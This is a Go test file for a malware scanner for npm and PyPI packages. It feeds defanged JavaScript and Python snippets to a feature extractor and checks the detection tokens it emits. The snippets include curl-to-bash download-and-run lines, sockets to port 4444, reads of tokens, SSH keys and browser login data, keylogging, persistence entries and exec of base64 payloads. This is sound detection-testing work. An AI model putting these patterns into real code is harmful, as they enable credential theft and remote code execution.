package features

import (
	"slices"
	"strings"
	"testing"

	"github.com/moatproject/moat/scan/sequence"
)

type tokenCase struct {
	token string
	name  string
	src   string
}

// Every snippet is hand-written and defanged: .invalid hosts, documentation
// IP ranges, no working payloads.
var jsTokenCases = []tokenCase{
	{"os.import", "require os", `const os = require('os');`},
	{"os.import", "import node:os", `import * as os from 'node:os';`},
	{"os.call", "hostname", `const os = require('os'); const h = os.hostname();`},
	{"os.call", "destructured userInfo", `const {userInfo} = require('os'); userInfo();`},
	{"env.read", "member", `const home = process.env.HOME;`},
	{"env.read", "destructured", `const {HOME} = process.env;`},
	{"env.read.all", "stringify", `send(JSON.stringify(process.env));`},
	{"env.read.all", "entries", `for (const [k, v] of Object.entries(process.env)) log(k, v);`},
	{"env.read.secret", "subscript", `const t = process.env['GITHUB_TOKEN'];`},
	{"env.read.secret", "npm token", `const t = process.env.NPM_TOKEN;`},
	{"fs.import", "fs/promises", `import fs from 'fs/promises';`},
	{"fs.read", "readFileSync", `const fs = require('fs'); fs.readFileSync('/tmp/x');`},
	{"fs.read", "promises", `const fs = require('fs').promises; await fs.readFile(p);`},
	{"fs.write", "writeFileSync", `const {writeFileSync} = require('fs'); writeFileSync(p, d);`},
	{"fs.delete", "rmSync", `require('fs').rmSync(dir, {recursive: true});`},
	{"fs.list", "readdirSync", `const fs = require('fs'); fs.readdirSync(home);`},
	{"sensitive.path", "npmrc", `path.join(os.homedir(), '.npmrc');`},
	{"sensitive.path", "ssh key", "const k = `${home}/.ssh/id_rsa`;"},
	{"sensitive.browser", "login data", `const p = 'AppData/Local/Google/Chrome/User Data/Default/Login Data';`},
	{"sensitive.wallet", "exodus", `const w = path.join(appdata, 'Exodus', 'exodus.wallet');`},
	{"sensitive.messenger", "discord leveldb", `const d = appdata + '/discord/Local Storage/leveldb';`},
	{"spy.call", "clipboard", `const clip = require('clipboardy'); clip.readSync();`},
	{"net.import", "axios", `const axios = require('axios');`},
	{"net.import", "esm https", `import https from 'node:https';`},
	{"net.call", "axios.post", `const axios = require('axios'); axios.post(u, d);`},
	{"net.call", "fetch", `fetch(u, {method: 'POST'});`},
	{"net.call", "https.request chain", `require('https').request(opts).end();`},
	{"net.call", "xhr", `const x = new XMLHttpRequest();`},
	{"net.dns", "lookup", `require('dns').lookup(host, cb);`},
	{"url", "https", `const u = 'https://example.invalid/a';`},
	{"url.ip", "ipv4 url", `const u = 'http://203.0.113.9:8080/x';`},
	{"url.ip", "bare host", `net.connect(4444, '198.51.100.7');`},
	{"url.webhook", "discord", `const h = 'https://discord.com/api/webhooks/0000/defanged';`},
	{"url.paste", "pastebin", `get('https://pastebin.com/raw/defanged');`},
	{"url.tunnel", "ngrok", `const t = 'https://defanged.ngrok-free.app/c';`},
	{"url.tunnel", "oast", `dns.resolve('x.defanged.oast.fun');`},
	{"url.telegram", "bot api", `const t = 'https://api.telegram.org/botDEFANGED/sendMessage';`},
	{"encoding.import", "zlib", `const zlib = require('node:zlib');`},
	{"encoding.call", "atob", `const s = atob(data);`},
	{"encoding.call", "buffer base64", `Buffer.from(s, 'base64');`},
	{"encoding.call", "toString hex", `buf.toString('hex');`},
	{"encoding.call", "fromCharCode", `String.fromCharCode(104, 105);`},
	{"crypto.call", "decipher", `const crypto = require('crypto'); crypto.createDecipheriv('aes-256-cbc', k, iv);`},
	{"string.base64", "literal", `const b = 'aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Qgc3RyaW5nIDEyMw==';`},
	{"string.hex", "escapes", `const h = '\x68\x65\x6c\x6c\x6f\x20\x77\x6f\x72\x6c\x64\x21';`},
	{"string.hex", "digits", `const h = '68656c6c6f20776f726c6421212121212121212121212121';`},
	{"string.long", "600 chars", "const s = '" + strings.Repeat("lorem ipsum ", 50) + "';"},
	{"obfuscation.identifiers", "_0x names", obfuscatedJS()},
	{"obfuscation.charcodes", "fromCharCode spread", `String.fromCharCode(...[` + numbers(24) + `]);`},
	{"obfuscation.charcodes", "array mapped", `const s = [` + numbers(30) + `].map(c => String.fromCharCode(c)).join('');`},
	{"obfuscation.minified", "long line", "var a=1;" + strings.Repeat("a=a+1;", 1000) + "\n"},
	{"process.import", "child_process", `const cp = require('child_process');`},
	{"process.import", "node: prefix", `const {exec} = require('node:child_process');`},
	{"process.call", "alias exec", `const cp = require('child_process'); cp.exec('id');`},
	{"process.call", "destructured renamed", `const {execSync: run} = require('child_process'); run('id');`},
	{"process.call", "esm named", `import {spawn} from 'child_process'; spawn('x', []);`},
	{"process.detached", "detached option", `const {spawn} = require('child_process'); spawn('x', [], {detached: true, stdio: 'ignore'});`},
	{"process.detached", "unref", `const cp = require('child_process'); const c = cp.spawn('x'); c.unref();`},
	{"process.detached", "nohup string", `run('nohup ./agent >/dev/null 2>&1 &');`},
	{"shell.script", "bash -c", `run('bash -c "echo hi"');`},
	{"shell.script", "powershell", `run('powershell -NoProfile -Command Get-Date');`},
	{"shell.download_exec", "curl pipe", `run('curl -s https://example.invalid/i.sh | bash');`},
	{"shell.download_exec", "wget chmod", `run('wget -q https://example.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a');`},
	{"eval.call", "eval", `eval(code);`},
	{"eval.call", "new Function", `const f = new Function('a', body);`},
	{"eval.call", "computed global", `globalThis['ev' + 'al']('1+1');`},
	{"eval.call", "indirect", `(0, eval)(src);`},
	{"eval.call", "vm", `const vm = require('vm'); vm.runInNewContext(src, {});`},
	{"eval.decoded", "eval atob", `eval(atob(payload));`},
	{"eval.decoded", "Function of buffer", `new Function(Buffer.from(p, 'base64').toString())();`},
	{"import.dynamic", "require var", `const m = require(name);`},
	{"import.dynamic", "import()", `const m = await import(name);`},
	{"import.dynamic", "computed global", `const f = globalThis[key];`},
	{"persistence", "bashrc", `fs.appendFileSync(home + '/.bashrc', line);`},
	{"persistence", "run key", `run('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x');`},
	{"parse.error", "garbage", `)))) ]]] }}} ((( [[[ {{{ <<<< >>>> ;;; ::: ### @@@ %%% ^^^ ~~~ )))) ]]] }}}`},
	{"browser.hook", "fetch override", `const orig = window.fetch; window.fetch = (...a) => orig(...a);`},
	{"wallet.address", "bech32", `const to = 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4';`},
	{"script.inject", "script src", `const s = document.createElement('script'); s.src = 'https://cdn.example.invalid/x.js';`},
	{"publish.self", "npm publish", `require('child_process').execSync('npm publish');`},
	{"fs.read.nonsource", "png", `const fs = require('fs'); fs.readFileSync(__dirname + '/logo.png');`},
	{"process.download_exec", "curl pipe", `require('child_process').exec('curl -s http://192.0.2.1/i.sh | sh');`},
	{"eval.payload", "base64 eval", `eval(Buffer.from('Y29uc29sZS5sb2coMSk7', 'base64').toString());`},
	{"process.download_exec", "sh -c argv", `const cp = require('child_process'); const u = 'http://192.0.2.1/x'; cp.spawn('sh', ['-c', 'wget -q ' + u + ' -O /tmp/x && chmod +x /tmp/x']);`},
}

var pyTokenCases = []tokenCase{
	{"os.import", "import os", `import os`},
	{"os.import", "getpass", `import getpass`},
	{"os.call", "getuser", `import getpass
user = getpass.getuser()`},
	{"os.call", "gethostname", `import socket
h = socket.gethostname()`},
	{"os.call", "platform.node", `from platform import node
node()`},
	{"env.read", "getenv", `import os
home = os.getenv('HOME')`},
	{"env.read", "subscript", `import os
home = os.environ['HOME']`},
	{"env.read", "environ.get", `from os import environ
home = environ.get('HOME')`},
	{"env.read.all", "dict", `import os
env = dict(os.environ)`},
	{"env.read.all", "copy", `import os
env = os.environ.copy()`},
	{"env.read.secret", "aws", `import os
k = os.environ['AWS_SECRET_ACCESS_KEY']`},
	{"env.read.secret", "getenv token", `import os
t = os.getenv("GITHUB_TOKEN")`},
	{"fs.import", "shutil", `import shutil`},
	{"fs.import", "pathlib", `from pathlib import Path`},
	{"fs.read", "open", `data = open('/tmp/x').read()`},
	{"fs.read", "read_text", `from pathlib import Path
Path.home().joinpath('x').read_text()`},
	{"fs.write", "open w", `with open('/tmp/x', 'w') as f:
    f.write(data)`},
	{"fs.write", "mode kw", `open(p, mode='ab')`},
	{"fs.delete", "remove", `import os
os.remove(p)`},
	{"fs.delete", "rmtree", `import shutil
shutil.rmtree(d)`},
	{"fs.list", "walk", `import os
for root, dirs, files in os.walk(home):
    pass`},
	{"fs.list", "glob", `import glob
glob.glob('/tmp/*')`},
	{"sensitive.path", "ssh", `p = os.path.expanduser('~/.ssh/id_rsa')`},
	{"sensitive.path", "pypirc", `p = os.path.join(home, '.pypirc')`},
	{"sensitive.browser", "local state", `p = os.path.join(local, 'Google', 'Chrome', 'User Data', 'Local State')`},
	{"sensitive.browser", "firefox", `p = os.path.join(roaming, 'Mozilla', 'Firefox', 'Profiles')`},
	{"sensitive.wallet", "wallet.dat", `p = os.path.join(appdata, 'Bitcoin', 'wallet.dat')`},
	{"sensitive.messenger", "tdata", `p = os.path.join(appdata, 'Telegram Desktop', 'tdata')`},
	{"spy.call", "ImageGrab", `from PIL import ImageGrab
img = ImageGrab.grab()`},
	{"spy.call", "pynput", `from pynput import keyboard
keyboard.Listener(on_press=cb)`},
	{"spy.call", "clipboard", `import pyperclip
pyperclip.paste()`},
	{"net.import", "requests", `import requests`},
	{"net.import", "urllib.request", `from urllib.request import urlopen`},
	{"net.call", "requests.post", `import requests
requests.post(u, data=d)`},
	{"net.call", "urlopen alias", `from urllib.request import urlopen
urlopen(u)`},
	{"net.call", "socket connect", `import socket
s = socket.socket()
s.connect(('198.51.100.7', 4444))`},
	{"net.call", "session", `import requests
s = requests.Session()
s.get(u)`},
	{"net.dns", "gethostbyname", `import socket
socket.gethostbyname('example.invalid')`},
	{"net.dns", "dnspython", `import dns.resolver
dns.resolver.resolve('example.invalid', 'TXT')`},
	{"url", "https", `u = "https://example.invalid/c"`},
	{"url.ip", "ip url", `u = "http://192.0.2.10/x"`},
	{"url.ip", "bare host", `HOST = "198.51.100.23"`},
	{"url.webhook", "webhook.site", `u = "https://webhook.site/00000000-defanged"`},
	{"url.paste", "transfer.sh", `u = "https://transfer.sh/defanged/x"`},
	{"url.tunnel", "trycloudflare", `u = "https://defanged.trycloudflare.com"`},
	{"url.telegram", "bot", `u = f"https://api.telegram.org/bot{token}/sendDocument"`},
	{"encoding.import", "base64", `import base64`},
	{"encoding.import", "fernet", `from cryptography.fernet import Fernet`},
	{"encoding.call", "b64decode", `import base64
base64.b64decode(s)`},
	{"encoding.call", "rot13", `import codecs
codecs.decode(s, 'rot13')`},
	{"encoding.call", "fromhex", `bytes.fromhex(h)`},
	{"encoding.call", "marshal", `import marshal
marshal.loads(b)`},
	{"crypto.call", "fernet", `from cryptography.fernet import Fernet
Fernet(key).decrypt(blob)`},
	{"crypto.call", "AES", `from Crypto.Cipher import AES
AES.new(key, AES.MODE_GCM)`},
	{"string.base64", "literal", `b = "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Qgc3RyaW5nIDEyMw=="`},
	{"string.hex", "escapes", `b = b"\x68\x65\x6c\x6c\x6f\x20\x77\x6f\x72\x6c\x64\x21"`},
	{"string.long", "long", `s = """` + strings.Repeat("lorem ipsum ", 50) + `"""`},
	{"obfuscation.identifiers", "_0x names", obfuscatedPy()},
	{"obfuscation.charcodes", "chr join", `s = ''.join(chr(c) for c in [` + numbers(25) + `])`},
	{"obfuscation.charcodes", "bytes list", `b = bytes([` + numbers(25) + `])`},
	{"obfuscation.charcodes", "chr chain", `s = ` + chrChain(22)},
	{"obfuscation.minified", "long line", "x = 1; " + strings.Repeat("x = x + 1; ", 600) + "\n"},
	{"process.import", "subprocess", `import subprocess`},
	{"process.import", "pty", `import pty`},
	{"process.call", "os.system", `import os
os.system('id')`},
	{"process.call", "from import", `from os import system
system('id')`},
	{"process.call", "Popen alias", `from subprocess import Popen as P
P(['id'])`},
	{"process.call", "module alias", `import subprocess as sp
sp.run(['id'])`},
	{"process.call", "__import__", `__import__('os').system('id')`},
	{"process.call", "getattr", `import os
getattr(os, 'system')('id')`},
	{"process.detached", "start_new_session", `import subprocess
subprocess.Popen(['x'], start_new_session=True)`},
	{"process.detached", "creationflags", `import subprocess
subprocess.Popen(['x'], creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW)`},
	{"process.detached", "fork", `import os
if os.fork() == 0:
    os.setsid()`},
	{"shell.script", "sh -c", `cmd = "sh -c 'echo hi'"`},
	{"shell.script", "chmod", `cmd = "chmod +x /tmp/a"`},
	{"shell.download_exec", "wget pipe", `os.system("wget -qO- https://example.invalid/i.sh | sh")`},
	{"eval.call", "exec", `exec(code)`},
	{"eval.call", "compile", `c = compile(src, '<x>', 'exec')`},
	{"eval.call", "builtins", `getattr(__builtins__, 'ex' + 'ec')(code)`},
	{"eval.call", "builtins subscript", `__builtins__.__dict__['eval'](code)`},
	{"eval.decoded", "exec b64", `import base64
exec(base64.b64decode(blob))`},
	{"eval.decoded", "exec zlib", `import zlib, base64
exec(zlib.decompress(base64.b64decode(blob)))`},
	{"eval.decoded", "marshal", `import marshal
exec(marshal.loads(blob))`},
	{"import.dynamic", "__import__ var", `m = __import__(name)`},
	{"import.dynamic", "importlib", `import importlib
m = importlib.import_module(name)`},
	{"persistence", "crontab", `os.system('(crontab -l; echo "@reboot /tmp/a") | crontab -')`},
	{"persistence", "startup", `p = os.path.join(appdata, 'Microsoft\\Windows\\Start Menu\\Programs\\Startup')`},
	{"persistence", "launchagents", `p = os.path.expanduser('~/Library/LaunchAgents/x.plist')`},
	{"setup.cmdclass", "cmdclass", `from setuptools import setup
setup(name='x', cmdclass={'install': PostInstall})`},
	{"setup.install_class", "install subclass", `from setuptools.command.install import install
class PostInstall(install):
    def run(self):
        install.run(self)`},
	{"parse.error", "garbage", `)))) ]]] }}} ((( [[[ {{{ <<<< >>>> ;;; ::: ### @@@ %%% ^^^ ~~~ )))) ]]] }}}`},
	{"eval.call", "getattr folded", `import builtins
getattr(builtins, ''.join(map(chr, [101, 118, 97, 108])))(s)`},
	{"process.call", "__import__ folded", `__import__('o' + 's').system('true')`},
	{"process.call", "exec of b64 payload", `import base64
exec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgndHJ1ZScpCg=='))`},
	{"eval.decoded", "exec rot13 payload", `import codecs
exec(codecs.decode('vzcbeg bf', 'rot13'))`},
	{"eval.decoded", "exec reversed", `exec(")'eurt'(metsys.so;so tropmi"[::-1])`},
	{"wallet.address", "eth", `ADDR = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'`},
	{"wallet.address", "bech32", `ADDR = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"`},
	{"publish.self", "twine argv", `import subprocess
subprocess.run(['twine', 'upload', 'dist/*'])`},
	{"publish.self", "npm publish", `os.system('npm publish --access public')`},
	{"fs.read.nonsource", "png", `data = open('assets/logo.png', 'rb').read()`},
	{"fs.read.nonsource", "pkgutil", `import pkgutil
blob = pkgutil.get_data(__name__, 'payload.bin')`},
	{"wallet.address", "eth literal", `TO = "0xa54dca182530bb1d6d132cded6237b2ed91e3f72"`},
	{"publish.self", "twine", `os.system("twine upload dist/*")`},
	{"eval.payload", "b64 exec", `import base64
exec(base64.b64decode('aW1wb3J0IG9z'))`},
	{"process.download_exec", "os.system", `import os
os.system("curl -fsSL http://192.0.2.1/i.sh | bash")`},
	{"process.download_exec", "argv", `import subprocess
subprocess.call(["sh", "-c", "wget -q http://192.0.2.1/x -O /tmp/x; chmod +x /tmp/x"])`},
}

func numbers(n int) string {
	parts := make([]string, n)
	for i := range parts {
		parts[i] = itoa(97 + i%26)
	}
	return strings.Join(parts, ", ")
}

func chrChain(n int) string {
	parts := make([]string, n)
	for i := range parts {
		parts[i] = "chr(" + itoa(97+i%26) + ")"
	}
	return strings.Join(parts, " + ")
}

func obfuscatedJS() string {
	var b strings.Builder
	for i := range 12 {
		b.WriteString("var _0x" + strings.Repeat("a", 3) + itoa(i) + "f=" + itoa(i) + ";\n")
	}
	return b.String()
}

func obfuscatedPy() string {
	var b strings.Builder
	for i := range 12 {
		b.WriteString("_0xbeef" + itoa(i) + " = " + itoa(i) + "\n")
	}
	return b.String()
}

func TestTokensJavaScript(t *testing.T) { runTokenCases(t, "pkg/index.js", jsTokenCases) }

func TestTokensPython(t *testing.T) { runTokenCases(t, "pkg/mod.py", pyTokenCases) }

func runTokenCases(t *testing.T, path string, cases []tokenCase) {
	e := newTestExtractor(t)
	for _, tc := range cases {
		t.Run(tc.token+"/"+tc.name, func(t *testing.T) {
			fe := extract(t, e, path, tc.src)
			if !slices.Contains(tokens(fe), tc.token) {
				t.Errorf("want %s in:\n%s", tc.token, dump(fe))
			}
			checkWellFormed(t, fe, path)
		})
	}
}

// featureTokens are the tokens scan/features emits (the rest of
// sequence.Tokens come from the scan package and the sequence builder).
func featureTokens() []string {
	var out []string
	for _, tok := range sequence.Tokens {
		switch {
		case strings.HasPrefix(tok, "["), strings.HasPrefix(tok, "install."), tok == "setup.py", tok == "pth.exec",
			tok == "file.truncated":
			continue
		}
		out = append(out, tok)
	}
	return out
}

// TestTokenCoverage checks that the tables cover every token this package
// emits, in each language where the token applies.
func TestTokenCoverage(t *testing.T) {
	pythonOnly := map[string]bool{"setup.cmdclass": true, "setup.install_class": true}
	javaScriptOnly := map[string]bool{"browser.hook": true, "script.inject": true}
	for _, tok := range featureTokens() {
		if !pythonOnly[tok] && !slices.ContainsFunc(jsTokenCases, func(c tokenCase) bool { return c.token == tok }) {
			t.Errorf("no JavaScript case for %s", tok)
		}
		if !javaScriptOnly[tok] && !slices.ContainsFunc(pyTokenCases, func(c tokenCase) bool { return c.token == tok }) {
			t.Errorf("no Python case for %s", tok)
		}
	}
	known := map[string]bool{}
	for _, tok := range sequence.Tokens {
		known[tok] = true
	}
	for _, c := range append(slices.Clone(jsTokenCases), pyTokenCases...) {
		if !known[c.token] {
			t.Errorf("case %q uses token %q missing from sequence.Tokens", c.name, c.token)
		}
	}
}

// checkWellFormed asserts the invariants every FileEvents must satisfy.
func checkWellFormed(t testing.TB, fe *sequence.FileEvents, path string) {
	t.Helper()
	known := map[string]bool{}
	for _, tok := range sequence.Tokens {
		known[tok] = true
	}
	for i, ev := range fe.Events {
		if !known[ev.Token] {
			t.Errorf("event %d: unknown token %q", i, ev.Token)
		}
		if ev.File != path {
			t.Errorf("event %d: file %q, want %q", i, ev.File, path)
		}
		if ev.Line < 0 {
			t.Errorf("event %d: line %d", i, ev.Line)
		}
		if len(ev.Snippet) > maxSnippet || strings.ContainsAny(ev.Snippet, "\n\r") || !utf8Valid(ev.Snippet) {
			t.Errorf("event %d: bad snippet %q", i, ev.Snippet)
		}
	}
}
